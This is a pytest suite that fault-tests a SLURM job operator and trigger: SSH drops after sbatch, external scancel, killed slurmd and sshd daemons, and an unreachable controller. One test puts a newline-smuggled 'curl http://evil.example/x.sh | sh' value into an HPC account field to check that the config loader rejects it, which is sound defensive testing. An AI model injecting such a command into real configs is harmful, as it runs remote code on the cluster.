"""SLURM jobs under injected faults: every fault is short, undone in `finally`, and leaves no orphan job."""

from __future__ import annotations

import asyncio
import signal
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml
from airflow.sdk.exceptions import TaskDeferred

from eo_tasks.core.aoi import AOIConfig
from eo_tasks.core.errors import (
    ConfigError,
    ControllerUnreachableError,
    JobFailedError,
    LoginNodeUnreachableError,
)
from eo_tasks.hpc.shell import CommandResult, ParamikoShell
from eo_tasks.hpc.slurm import JobState, SlurmClient, run_key
from tests.conftest import REPO
from tests.faults.conftest import run_dir, start_slurmd, start_sshd, stop_daemon

sys.path.insert(0, str(REPO / "plugins"))
from eo_slurm import SlurmJobOperator, SlurmJobTrigger


class _Log:
    """Stands in for a trigger's logger: keeps (time, level, message)."""

    def __init__(self) -> None:
        self.lines: list[tuple[float, str, str]] = []

    def _at(level: str) -> Any:  # type: ignore[misc]
        def record(self: _Log, message: str, *args: Any) -> None:
            self.lines.append((time.time(), level, message % args))

        return record

    info = _at("info")
    warning = _at("warning")
    error = _at("error")

    def text(self, level: str | None = None) -> str:
        return "\n".join(m for _, lvl, m in self.lines if level in (None, lvl))


class _TI:
    """The task-instance fields the operator reads."""

    def __init__(self, run_id: str, try_number: int) -> None:
        self.dag_id, self.run_id, self.task_id, self.map_index = "faults", run_id, "job", -1
        self.try_number = try_number

    def xcom_push(self, key: str, value: Any) -> None:
        pass


def _operator(tmp_path: Path, body: str, name: str) -> SlurmJobOperator:
    (tmp_path / f"{name}.sbatch.j2").write_text("#!/bin/bash\n#SBATCH --time={{ time_limit }}\n" + body)
    return SlurmJobOperator(
        task_id="job",
        template=f"{name}.sbatch.j2",
        values={"time_limit": "00:05:00"},
        job_name=name,
        templates_dir=str(tmp_path),
        poll_interval=0.5,
        retries=1,
    )


def _jobs_with_key(slurm: SlurmClient, key: str) -> list[tuple[str, str]]:
    """Every job SLURM knows (live or ended within MinJobAge) that carries ``key``: (id, state)."""
    out = slurm.shell.run("squeue --noheader --all -t all --format='%F|%k|%T'").stdout
    rows = [line.split("|") for line in out.splitlines() if line.count("|") == 2]
    return sorted({(r[0], r[2]) for r in rows if r[1].split(";")[0] == f"eokey:{key}"})


def _wait_trigger(trigger: SlurmJobTrigger, timeout: float = 180) -> tuple[dict[str, Any], _Log]:
    log = _Log()
    trigger._log = log  # type: ignore[assignment]
    event = asyncio.run(asyncio.wait_for(trigger.run().__anext__(), timeout=timeout))
    return event.payload, log


def _deferred(op: SlurmJobOperator, context: dict[str, Any]) -> TaskDeferred:
    with pytest.raises(TaskDeferred) as deferred:
        op.execute(context)
    return deferred.value


def _wait_running(slurm: SlurmClient, job_id: str, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while slurm.state(job_id) != JobState.RUNNING:
        assert time.monotonic() < deadline, f"job {job_id} never started"
        time.sleep(0.5)


def test_a_newline_in_an_hpc_setting_is_refused_at_load(tmp_path: Path) -> None:
    data = yaml.safe_load((REPO / "aois" / "demo.yaml").read_text())
    data["hpc"]["account"] = "x\ncurl http://evil.example/x.sh | sh\n#"
    path = tmp_path / "evil.yaml"
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(
        ConfigError, match=r"hpc\.account: control characters \(e\.g\. a newline\) are not allowed"
    ):
        AOIConfig.load(path, check_crs=False)


def test_a_retry_after_an_ssh_drop_right_after_sbatch_adopts_the_job(
    slurm: SlurmClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = f"manual__{uuid.uuid4().hex}"
    key = run_key("faults", run_id, "job", -1)
    op = _operator(tmp_path, 'echo "one run"\nsleep 4\n', "adopt")
    real_slurm = SlurmJobOperator._slurm

    class DropAfterSbatch(ParamikoShell):
        """The connection dies right after sbatch ran: the job exists, its id never arrived."""

        def run(self, command: str, timeout: float = 60.0) -> CommandResult:
            result = super().run(command, timeout)
            if command.startswith("sbatch"):
                self._client.close()
                raise LoginNodeUnreachableError("login node unreachable: connection reset after sbatch")
            return result

    def dropping(self: SlurmJobOperator) -> tuple[Any, SlurmClient]:
        client, good = real_slurm(self)
        return client, SlurmClient(DropAfterSbatch(client), good.work_dir)

    try:
        monkeypatch.setattr(SlurmJobOperator, "_slurm", dropping)
        with pytest.raises(LoginNodeUnreachableError, match="after sbatch"):
            op.execute({"ti": _TI(run_id, 1)})  # try 1 of 2 fails; its job is not cancelled
        monkeypatch.setattr(SlurmJobOperator, "_slurm", real_slurm)
        assert len(_jobs_with_key(slurm, key)) == 1
        retry = _operator(tmp_path, 'echo "one run"\nsleep 4\n', "adopt")
        deferred = _deferred(retry, {"ti": _TI(run_id, 2)})
        assert [job for job, _ in _jobs_with_key(slurm, key)] == [retry.job_id]  # adopted, not resubmitted
        payload, _ = _wait_trigger(deferred.trigger)
        assert retry.execute_complete({}, payload)["state"] == "COMPLETED"
        assert len(_jobs_with_key(slurm, key)) == 1
    finally:
        for job_id, _ in _jobs_with_key(slurm, key):
            slurm.cancel(job_id)
    assert all(state != "RUNNING" for _, state in _jobs_with_key(slurm, key))


def test_scancel_of_a_running_job_fails_the_task_with_a_clear_cancelled_message(
    slurm: SlurmClient, tmp_path: Path
) -> None:
    run_id = f"manual__{uuid.uuid4().hex}"
    key = run_key("faults", run_id, "job", -1)
    op = _operator(tmp_path, "sleep 120\n", "scancelled")
    try:
        deferred = _deferred(op, {"ti": _TI(run_id, 1)})
        assert op.job_id
        _wait_running(slurm, op.job_id)
        slurm.shell.run(f"scancel {op.job_id}")  # an administrator, outside the platform
        payload, _ = _wait_trigger(deferred.trigger)
        assert payload["state"] == "CANCELLED"
        with pytest.raises(JobFailedError, match=r"CANCELLED.*by scancel outside the platform") as err:
            op.execute_complete({"ti": _TI(run_id, 1)}, payload)
        print(err.value)
        assert len(_jobs_with_key(slurm, key)) == 1  # CANCELLED is not resubmitted
    finally:
        for job_id, state in _jobs_with_key(slurm, key):
            if state in ("PENDING", "RUNNING"):
                slurm.cancel(job_id)
    assert not [s for _, s in _jobs_with_key(slurm, key) if s in ("PENDING", "RUNNING")]


def test_slurmd_killed_mid_job_and_restarted(slurm: SlurmClient) -> None:
    script = (
        "#!/bin/bash\n#SBATCH --time=00:03:00\nfor i in 1 2 3 4 5 6 7 8; do echo tick $i; sleep 1; done\n"
    )
    key = uuid.uuid4().hex
    job_id = slurm.submit(script, "slurmd-kill", key)
    pidfile = run_dir() / "slurm" / "slurmd.pid"
    try:
        _wait_running(slurm, job_id)
        stop_daemon(pidfile, signal.SIGKILL)
        time.sleep(3)
    finally:
        start_slurmd()
    payload, log = _wait_trigger(SlurmJobTrigger("eo_hpc", job_id, slurm.work_dir, poll_interval=0.5))
    print(log.text())
    # slurmstepd kept the job alive while slurmd was away; the job either ends normally or, if
    # the node was lost, says so: never a silent hang or an "unknown state".
    assert payload["state"] in ("COMPLETED", "NODE_FAIL"), payload
    if payload["state"] == "COMPLETED":
        assert "tick 8" in payload["tail"]
    else:
        assert "a node it ran on failed" in log.text()
    assert not [s for _, s in _jobs_with_key(slurm, key) if s in ("PENDING", "RUNNING")]


def test_sshd_stopped_during_a_deferred_wait(slurm: SlurmClient) -> None:
    job_id = slurm.submit("#!/bin/bash\nsleep 8\necho done\n", "sshd-stop", uuid.uuid4().hex)
    trigger = SlurmJobTrigger("eo_hpc", job_id, slurm.work_dir, poll_interval=0.5, max_unreachable=60)
    log = _Log()
    trigger._log = log  # type: ignore[assignment]

    async def wait_while_sshd_is_down() -> Any:
        events = trigger.run()
        try:
            await asyncio.to_thread(stop_daemon, run_dir() / "ssh" / "sshd.pid")
            waiting = asyncio.ensure_future(events.__anext__())  # its first connection meets no sshd
            await asyncio.sleep(3)
        finally:
            await asyncio.to_thread(start_sshd)
        return await asyncio.wait_for(waiting, timeout=120)

    event = asyncio.run(wait_while_sshd_is_down())
    assert (event.payload["state"], event.payload["exit_code"]) == ("COMPLETED", 0)
    assert "login node unreachable" in log.text("warning")
    assert "SLURM controller" not in log.text("warning")
    assert trigger.connections == 1  # connected once sshd was back, then kept that connection


def test_a_controller_outage_is_named_as_such(slurm: SlurmClient, tmp_path: Path) -> None:
    """slurmctld not answering (a copy of slurm.conf with a closed controller port) is not 'login node'."""
    conf = Path(slurm.shell.run("echo $SLURM_CONF").stdout.strip())
    bad = tmp_path / "slurm.conf"
    bad.write_text(conf.read_text().replace("SlurmctldPort=", "SlurmctldPort=1").replace("\n", "\n", 1))

    class OtherController(ParamikoShell):
        def run(self, command: str, timeout: float = 60.0) -> CommandResult:
            return super().run(f"export SLURM_CONF={bad}; {command}", timeout)

    job_id = slurm.submit("#!/bin/bash\ntrue\n", "ctld")
    blind = SlurmClient(OtherController(slurm.shell._client), slurm.work_dir)  # type: ignore[attr-defined]
    with pytest.raises(
        ControllerUnreachableError, match=r"^SLURM controller unreachable: .*Unable to contact"
    ):
        blind.status(job_id)
